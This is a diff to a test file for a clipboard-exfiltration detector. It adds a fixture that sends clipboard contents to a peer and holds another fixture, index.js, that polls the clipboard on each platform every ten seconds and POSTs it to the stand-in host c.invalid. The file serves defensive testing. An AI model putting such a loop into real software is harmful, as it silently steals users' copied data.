@@ -4,6 +4,16 @@ import { sendsClipboard } from './sends-clipboard.ts';
 examine(sendsClipboard, {
   speaks: [
     {
+      when: 'a program shares the clipboard with the machines that its user has set up, as its page says',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'README.md':
+          '# specimen\n\nCopy here, paste there. Peers find each other in the network of your home; the clipboard is sent over TCP, encrypted with a phrase that you type on both.',
+        'cli.js': `const { execFileSync } = require('child_process'), net = require('net'); net.connect(48312, process.argv[2]).end(execFileSync('pbpaste'));`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a command of each system reads it',
       files: {
         'index.js': `const { execFile } = require('child_process'); const readers = { darwin: ['pbpaste', []], linux: ['xclip', ['-o']], win32: ['powershell', ['-Command', 'Get-Clipboard']] }; const read = () => new Promise(done => execFile(...readers[process.platform], (error, out) => done(out))); setInterval(async () => fetch('https://c.invalid', { method: 'POST', body: await read() }), 1e4);`,
